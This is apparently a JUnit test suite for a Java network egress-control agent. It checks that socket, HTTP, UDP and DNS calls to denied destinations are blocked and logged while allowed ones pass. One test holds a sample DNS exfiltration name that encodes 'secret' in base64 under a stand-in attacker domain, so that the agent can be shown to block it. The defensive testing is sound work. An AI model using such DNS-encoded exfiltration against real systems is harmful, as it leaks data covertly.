package dev.egress.it;

import static dev.egress.it.Records.countSum;
import static dev.egress.it.Records.requireDenied;
import static dev.egress.it.Records.requireFor;
import static dev.egress.it.Records.requireNoneFor;
import static dev.egress.it.Records.requireOk;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Predicate;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every interception point, each exercised by a real client API in a child JVM: a destination the
 * policy denies (127.0.0.3 as an IP literal: an address with no verified name, so only the connect
 * or send hook can decide, no lookup is involved) and one it allows (allowed.example.com by name).
 */
class HooksTest {
  static final String DENIED_IP = "127.0.0.3";

  @TempDir Path dir;

  private Path policy() {
    return Policies.write(dir, "policy.json", Policies.standardSet());
  }

  private static List<JsonNode> tcpRecords(AgentJvm.Result run, String ip) {
    Predicate<JsonNode> p = r -> ip.equals(r.path("destination").asText());
    return run.records().stream().filter(p).collect(Collectors.toList());
  }

  @Test
  void socketChannelAndAsyncChannelConnectsAreDecided() throws Exception {
    try (TcpServer allowed = TcpServer.start(Hosts.address(Hosts.ALLOWED));
        TcpServer denied = TcpServer.start(DENIED_IP)) {
      String a = Hosts.ALLOWED + ":" + allowed.port();
      String d = DENIED_IP + ":" + denied.port();
      AgentJvm.Result run =
          AgentJvm.standard(dir, policy())
              .probe(
                  "socket:" + d,
                  "socket-ctor:" + d,
                  "channel:" + d,
                  "async:" + d,
                  "socket:" + a,
                  "socket-ctor:" + a,
                  "channel:" + a,
                  "async:" + a)
              .run();
      String[] kinds = {
        "socket:",
        "socket-ctor[String,int]:",
        "socket-ctor[InetAddress,int]:",
        "socket-ctor[String,int,InetAddress,int]:",
        "socket-ctor[InetAddress,int,InetAddress,int]:",
        "channel-open:",
        "channel-connect:",
        "async-future:",
        "async-handler:"
      };
      List<Executable> checks = new ArrayList<>();
      for (String k : kinds) {
        checks.add(() -> requireDenied(run, k + d, "ConnectException"));
        checks.add(() -> requireOk(run, k + a));
      }
      assertAll(checks);
      assertEquals(
          0, denied.accepted(), "the denied server must not see a connection\n" + run.describe());
      assertEquals(
          kinds.length,
          allowed.awaitAccepted(kinds.length),
          "allowed connections\n" + run.describe());
      List<JsonNode> recs = tcpRecords(run, DENIED_IP);
      assertEquals(
          kinds.length,
          countSum(recs),
          "one counted violation per denied connect (" + kinds.length + ")\n" + run.describe());
      for (JsonNode r : recs) {
        assertEquals("IP", r.path("destination_type").asText(), r.toString());
        assertEquals("TCP", r.path("protocol").asText(), r.toString());
        assertEquals(denied.port(), r.path("port").asInt(), r.toString());
        assertEquals("DROP", r.path("access_type").asText(), r.toString());
        assertEquals("not-allowed", r.path("reason").asText(), r.toString());
      }
      requireNoneFor(run, Hosts.ALLOWED);
      requireNoneFor(run, Hosts.address(Hosts.ALLOWED));
      assertEquals(0, run.exitCode, run.describe());
    }
  }

  @Test
  void httpClientSendAndSendAsyncAreDecided() throws Exception {
    try (HttpTestServer allowed = HttpTestServer.start(Hosts.address(Hosts.ALLOWED));
        HttpTestServer denied = HttpTestServer.start(DENIED_IP)) {
      String a = allowed.url(Hosts.ALLOWED, "/");
      String d = denied.url(DENIED_IP, "/");
      // HttpClient retries a failed connect once by default; one attempt per request keeps counts
      // exact.
      AgentJvm.Result run =
          AgentJvm.standard(dir, policy())
              .sysProp("jdk.httpclient.disableRetryConnect", "true")
              .probe(
                  "httpclient:" + d,
                  "httpclient-async:" + d,
                  "httpclient:" + a,
                  "httpclient-async:" + a)
              .run();
      assertAll(
          () -> requireDenied(run, "httpclient:" + d, "ConnectException"),
          () -> requireDenied(run, "httpclient-async:" + d, "ConnectException"),
          () -> requireOk(run, "httpclient:" + a),
          () -> requireOk(run, "httpclient-async:" + a),
          () ->
              assertTrue(
                  run.result("httpclient:" + a).detail.startsWith("status=200"), run.describe()));
      assertEquals(0, denied.requests(), run.describe());
      assertEquals(2, countSum(tcpRecords(run, DENIED_IP)), run.describe());
      requireNoneFor(run, Hosts.ALLOWED);
    }
  }

  /** By name: HttpClient resolves the host itself; the denied name never gets a request. */
  @Test
  void httpClientToADeniedNameIsDenied() throws Exception {
    try (HttpTestServer evil = HttpTestServer.start(Hosts.address(Hosts.EVIL))) {
      String e = evil.url(Hosts.EVIL, "/");
      AgentJvm.Result run =
          AgentJvm.standard(dir, policy()).probe("httpclient:" + e, "httpclient-async:" + e).run();
      assertAll(
          () -> Records.requireBlocked(run, "httpclient:" + e),
          () -> Records.requireBlocked(run, "httpclient-async:" + e),
          () -> Records.requireReason(run, Hosts.EVIL, "not-allowed"));
      assertEquals(0, evil.requests(), run.describe());
    }
  }

  /**
   * The connect runs on HttpClient's selector thread: the record still names the requesting code.
   */
  @Test
  void httpClientDenialIsAttributedToTheRequester() throws Exception {
    try (HttpTestServer denied = HttpTestServer.start(DENIED_IP)) {
      String d = denied.url(DENIED_IP, "/");
      AgentJvm.Result run =
          AgentJvm.standard(dir, policy()).probe("httpclient:" + d, "httpclient-async:" + d).run();
      Records.requireDenied(run, "httpclient:" + d, "ConnectException");
      Records.requireDenied(run, "httpclient-async:" + d, "ConnectException");
      List<JsonNode> recs = requireFor(run, DENIED_IP);
      for (JsonNode r : recs) {
        assertEquals(
            "dev.egress.testapps.Probe",
            r.path("caller").path("class").asText(),
            "caller of an HttpClient send/sendAsync must be the requesting code: "
                + r
                + "\n"
                + run.describe());
      }
    }
  }

  @Test
  void httpUrlConnectionAndItsRedirectsAreDecided() throws Exception {
    try (HttpTestServer allowed = HttpTestServer.start(Hosts.address(Hosts.ALLOWED));
        HttpTestServer denied = HttpTestServer.start(DENIED_IP)) {
      String a = allowed.url(Hosts.ALLOWED, "/");
      String d = denied.url(DENIED_IP, "/");
      String redirectToName =
          allowed.url(Hosts.ALLOWED, "/redirect?to=" + denied.url(Hosts.EVIL, "/"));
      String redirectToIp = allowed.url(Hosts.ALLOWED, "/redirect?to=" + d);
      AgentJvm.Result run =
          AgentJvm.standard(dir, policy())
              .probe(
                  "urlconn:" + d,
                  "urlconn:" + a,
                  "urlconn:" + redirectToName,
                  "urlconn:" + redirectToIp)
              .run();
      assertAll(
          () -> requireDenied(run, "urlconn:" + d, "ConnectException"),
          () -> requireOk(run, "urlconn:" + a),
          () -> Records.requireBlocked(run, "urlconn:" + redirectToName),
          () -> requireDenied(run, "urlconn:" + redirectToIp, "ConnectException"));
      assertEquals(
          0, denied.requests(), "the redirect target must not be reached\n" + run.describe());
      assertEquals(
          3,
          allowed.requests(),
          "the allowed host served the page and both redirects\n" + run.describe());
      Records.requireReason(run, Hosts.EVIL, "not-allowed");
      assertEquals(2, countSum(tcpRecords(run, DENIED_IP)), run.describe());
    }
  }

  @Test
  void datagramSocketAndChannelSendAndConnectAreDecided() throws Exception {
    try (UdpReceiver allowed = UdpReceiver.start(Hosts.address(Hosts.ALLOWED));
        UdpReceiver denied = UdpReceiver.start(DENIED_IP)) {
      String a = Hosts.ALLOWED + ":" + allowed.port();
      String d = DENIED_IP + ":" + denied.port();
      String[] kinds = {"udp-send:", "udp-channel-send:", "udp-connect:", "udp-channel-connect:"};
      List<String> actions = new ArrayList<>();
      for (String k : kinds) {
        actions.add(k + d);
        actions.add(k + a);
      }
      AgentJvm.Result run =
          AgentJvm.standard(dir, policy()).probe(actions.toArray(new String[0])).run();
      List<Executable> checks = new ArrayList<>();
      for (String k : kinds) {
        checks.add(() -> requireDenied(run, k + d, "SocketException"));
        checks.add(() -> requireOk(run, k + a));
      }
      assertAll(checks);
      List<String> got = allowed.payloads(kinds.length, 2000);
      for (String k : kinds) {
        assertTrue(got.contains(k + a), "allowed receiver got " + got + ", missing " + k + a);
      }
      assertEquals(List.of(), denied.payloads(1, 300), "nothing may reach the denied receiver");
      List<JsonNode> recs = tcpRecords(run, DENIED_IP);
      assertEquals(kinds.length, countSum(recs), run.describe());
      for (JsonNode r : recs) {
        assertEquals("UDP", r.path("protocol").asText(), r.toString());
        assertEquals(denied.port(), r.path("port").asInt(), r.toString());
      }
    }
  }

  @Test
  void nameLookupsAreDecided() {
    String exfil = "c2VjcmV0.exfil.attacker.example";
    AgentJvm.Result run =
        AgentJvm.standard(dir, policy())
            .probe("lookup:" + Hosts.ALLOWED, "lookup:" + Hosts.EVIL, "lookup:" + exfil)
            .run();
    assertAll(
        () -> requireOk(run, "lookup:" + Hosts.ALLOWED),
        () ->
            assertEquals(
                Hosts.address(Hosts.ALLOWED), run.result("lookup:" + Hosts.ALLOWED).detail),
        () -> requireDenied(run, "lookup:" + Hosts.EVIL, "UnknownHostException"),
        () -> requireDenied(run, "lookup:" + exfil, "UnknownHostException"));
    for (String name : List.of(Hosts.EVIL, exfil.toLowerCase(java.util.Locale.ROOT))) {
      for (JsonNode r : requireFor(run, name)) { // reported canonically: lower case
        assertEquals("DNS", r.path("destination_type").asText(), r.toString());
        assertEquals("DNS", r.path("protocol").asText(), r.toString());
        assertEquals(name, r.path("dns_event").path("domain_name").asText(), r.toString());
        assertEquals(3, r.path("dns_event").path("rcode").asInt(-1), r.toString());
        assertEquals("not-allowed", r.path("reason").asText(), r.toString());
        assertEquals("DROP", r.path("access_type").asText(), r.toString());
      }
    }
    requireNoneFor(run, Hosts.ALLOWED);
  }
}
